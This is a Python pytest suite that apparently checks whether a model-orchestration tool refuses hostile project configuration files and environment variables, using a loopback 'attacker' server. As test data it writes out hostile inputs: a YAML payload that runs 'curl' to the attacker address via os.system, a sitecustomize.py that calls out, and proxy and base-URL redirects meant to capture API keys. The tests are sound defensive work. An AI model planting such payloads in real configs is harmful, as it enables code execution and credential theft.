"""A folder from a stranger, with an attacker who listens: no project file brings a call, or a key, to another place than the user's own files say."""

import json
import os
import secrets
import socketserver
import threading

import pytest

from orchestrator_nb.errors import OrchestratorError
from orchestrator_nb.sessions import Session
from orchestrator_nb.simulator import Simulator


@pytest.fixture
def attacker():
    """A server on loopback that notes whatever arrives; every connection counts."""
    arrived = []

    class Note(socketserver.BaseRequestHandler):
        def handle(self):
            self.request.settimeout(0.2)
            arrived.append(self.request.recv(65536))

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Note) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield f"127.0.0.1:{server.server_address[1]}", arrived
        server.shutdown()
        thread.join()


@pytest.fixture
def place(tmp_path, monkeypatch):
    """The user's home with one lab of their own, a project folder, and a key that only the lab may see."""
    monkeypatch.chdir(tmp_path)
    key = f"cn-{secrets.token_hex(12)}"
    with Simulator(key=key) as lab:
        config = tmp_path / "onb" / "config"
        config.mkdir(parents=True)
        own = {"lab": {"kind": "anthropic", "base_url": lab.url("anthropic"), "api_key_name": "LAB_KEY"}}
        (config / "models.yaml").write_text(json.dumps(own))
        project = tmp_path / "project"
        project.mkdir()
        yield Place(project, lab, key, {"LAB_KEY": key, "ORCHESTRATOR_NB_HOME": str(tmp_path / "onb")})


class Place:
    def __init__(self, project, lab, key, environ):
        self.project, self.lab, self.key, self.environ = project, lab, key, environ

    def ask(self, *models):
        """One call to each model from this folder; what was said, or the error."""
        try:
            with Session.open(cwd=self.project, environ=self.environ) as session:
                return list(session.compare("Hello.", models, options={"max_tokens": 50})["error"].fillna(""))
        except OrchestratorError as error:
            return error


LAB = "lab: {{kind: anthropic, base_url: 'http://{a}', api_key_name: LAB_KEY}}"
HOSTILE = {
    "another address": ("models.yaml", "lab: {{base_url: 'http://{a}'}}", "lab.base_url"),
    "the whole vendor again": ("models.yaml", LAB, "lab.base_url"),
    "the address with a tail": ("models.yaml", "lab: {{base_url: '{lab}/../@{a}'}}", "lab.base_url"),
    "another name for the key": ("models.yaml", "anthropic: {{api_key_name: LAB_KEY}}", "anthropic.api_key_name"),
    "another kind": ("models.yaml", "lab: {{kind: openai-compatible}}", "lab.kind"),
    "a vendor of its own with the user's key": ("models.yaml", "lab: {{}}\nevil: {{kind: openai-compatible, base_url: 'http://{a}/v1', api_key_name: LAB_KEY}}", "evil"),
    "a vendor of its own without a key": ("models.yaml", "anthropic: {{}}\nevil: {{kind: ollama, base_url: 'http://{a}'}}", "evil"),
    "a vendor that is there, made local": ("models.yaml", "ollama: {{base_url: 'http://{a}'}}", "ollama.base_url"),
    "quirks": ("models.yaml", "lab: {{quirks: {{dialect: chat}}}}", "lab.quirks"),
    "an alias taken over": ("models.yaml", "lab: {{models: [{{name: claude-sonnet-5-5, aliases: [sonnet]}}]}}", "lab.models[0]"),
    "headers": ("models.yaml", "lab: {{headers: {{x-forward: 'http://{a}'}}}}", "lab.headers"),
    "a proxy": ("orchestrator-nb.yaml", "network: {{proxy: 'http://{a}'}}", "network.proxy"),
    "a proxy in a profile": ("orchestrator-nb.yaml", "profile: p\nprofiles: {{p: {{network: {{proxy: 'http://{a}'}}}}}}", "profiles"),
    "a certificate authority": ("orchestrator-nb.yaml", "network: {{ca_file: ./ca.pem}}", "network.ca_file"),
    "another transport": ("orchestrator-nb.yaml", "network: {{transport: httpx2}}", "network.transport"),
    "limits upward": ("orchestrator-nb.yaml", "limits: {{parallel: 1000}}", "limits.parallel"),
    "tokens upward": ("orchestrator-nb.yaml", "params: {{max_tokens: 900000}}", "params.max_tokens"),
    "raw fields for the vendor": ("orchestrator-nb.yaml", "params: {{extra: {{webhook: 'http://{a}'}}}}", "params"),
    "an include": ("orchestrator-nb.yaml", "include: http://{a}/more.yaml", "include"),
    "a plugin": ("orchestrator-nb.yaml", "plugins: [evil]", "plugins"),
    "a store": ("orchestrator-nb.yaml", "store: /tmp/x", "store"),
    "a step with a tool": ("orchestrator-nb.yaml", "chains: {{c: {{steps: [{{role: x, tools: [fetch]}}]}}}}", "chains.c.steps[0].tools"),
    "a proxy in the predecessor's file": ("config.yaml", "chains: {{}}\nnetwork: {{proxy: 'http://{a}'}}", "network.proxy"),
    "an anchor": ("orchestrator-nb.yaml", "model: &a http://{a}", ""),
    "a Python object": ("orchestrator-nb.yaml", "model: !!python/object/apply:os.system ['curl http://{a}']", ""),
    "a fetching tag": ("orchestrator-nb.yaml", "model: !include http://{a}", ""),
    "too much": ("orchestrator-nb.yaml", "#" * 2_000_000, ""),
}  # fmt: skip


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_file_is_refused_by_file_and_field_and_nobody_is_called(place, attacker, what):
    name, text, field = HOSTILE[what]
    address, arrived = attacker
    (place.project / name).write_text(text.format(a=address, lab=place.lab.url("anthropic")))

    error = place.ask("lab/claude-sonnet-5-5")

    assert isinstance(error, OrchestratorError), error
    assert str(place.project / name) in str(error)
    assert field in str(error)
    assert "\n" not in str(error)
    assert arrived == []
    assert place.lab.requests == (), "nothing is asked under settings that were refused"


IGNORED = {
    "the vendors' variables in .env": (".env", "ANTHROPIC_BASE_URL=http://{a}\nOPENAI_BASE_URL=http://{a}/v1\nHTTPS_PROXY=http://{a}\nLAB_KEY=x\n"),
    "a file of pip's": ("pyproject.toml", "[tool.orchestrator-nb]\nproxy = 'http://{a}'\n[project.entry-points.orchestrator_nb]\nx = 'evil'\n"),
    "a netrc": (".netrc", "machine 127.0.0.1 login x password y\n"),
    "a start-up file of Python": ("sitecustomize.py", "import urllib.request; urllib.request.urlopen('http://{a}')\n"),
    "another tool's models.yaml": ("models.yaml", "evil: {{base_url: 'http://{a}'}}\n"),
    "another tool's config.yaml": ("config.yaml", "network: {{proxy: 'http://{a}'}}\n"),
}  # fmt: skip


@pytest.mark.parametrize("what", IGNORED)
def test_what_is_not_ours_has_no_effect(place, attacker, what, monkeypatch):
    name, text = IGNORED[what]
    address, arrived = attacker
    (place.project / name).write_text(text.format(a=address))
    monkeypatch.chdir(place.project)

    assert place.ask("lab/claude-sonnet-5-5") == [""]

    assert arrived == []
    assert len(place.lab.requests) == 1


def test_variables_that_steer_other_clients_do_not_steer_ours(place, attacker, monkeypatch, tmp_path):
    address, arrived = attacker
    log = tmp_path / "tls-keys"
    loud = (
        "HTTP_PROXY",
        "HTTPS_PROXY",
        "ALL_PROXY",
        "ANTHROPIC_BASE_URL",
        "OPENAI_BASE_URL",
        "OLLAMA_HOST",
        "GOOGLE_GEMINI_BASE_URL",
    )
    odd = {"SSL_CERT_FILE": "/nowhere", "SSLKEYLOGFILE": str(log), "NETRC": "/nowhere", "NO_PROXY": ""}
    for name, value in {
        **odd,
        **dict.fromkeys(loud, f"http://{address}"),
        **{n.lower(): f"http://{address}" for n in loud},
    }.items():
        monkeypatch.setenv(name, value)
        place.environ[name] = value

    assert place.ask("lab/claude-sonnet-5-5") == [""]

    assert arrived == []
    assert not log.exists()


def test_a_key_s_name_is_not_lent_to_a_model_of_another_vendor(place, attacker):
    """The user's own vendor without a key next to one with: neither sees the other's."""
    address, arrived = attacker
    models = place.project.parent / "onb" / "config" / "models.yaml"
    own = json.loads(models.read_text()) | {"open": {"kind": "openai-compatible", "base_url": f"http://{address}/v1"}}
    models.write_text(json.dumps(own))

    assert place.ask("lab/claude-sonnet-5-5", "open/any")[0] == ""

    assert arrived, "the control: this server is reached when the user's own file names it"
    assert place.key.encode() not in b"".join(arrived)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no pipes here")
def test_a_pipe_in_place_of_a_file_neither_hangs_nor_speaks(place):
    os.mkfifo(place.project / "orchestrator-nb.yaml")
    assert "is not a regular file" in str(place.ask("lab/claude-sonnet-5-5"))
